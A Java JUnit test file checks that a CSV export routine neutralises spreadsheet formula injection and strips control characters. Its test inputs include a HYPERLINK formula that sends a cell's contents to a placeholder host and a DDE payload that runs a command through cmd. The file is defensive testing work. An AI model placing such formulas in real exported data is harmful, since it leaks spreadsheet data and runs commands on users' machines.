package cn.bqw.report.export;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.math.BigDecimal;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Text cells a spreadsheet would run as formulae are written as text (OWASP CSV injection). */
class CsvNeutralisationTest {

    static Stream<Arguments> names() {
        return Stream.of(
                Arguments.of(
                        "=HYPERLINK(\"http://x.invalid/?\"&D4,\"详情\")",
                        "'=HYPERLINK(\"http://x.invalid/?\"&D4,\"详情\")"),
                Arguments.of("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
                Arguments.of("+1+1", "'+1+1"),
                Arguments.of("-2+3", "'-2+3"),
                Arguments.of("\t=1+1", "'=1+1"),
                Arguments.of("\r@x", "'@x"),
                Arguments.of("探\u0001村\u0085", "探村"),
                Arguments.of("和平村", "和平村"),
                Arguments.of("A=B", "A=B"));
    }

    @ParameterizedTest
    @MethodSource("names")
    void formulaeAreWrittenAsTextAndControlsRemoved(String name, String written) {
        assertEquals(written, CsvExport.text(name));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-2.5", "-100000", "0"})
    void negativeNumbersStayNumbers(String number) {
        assertEquals(number, CsvExport.text(new BigDecimal(number)));
    }
}
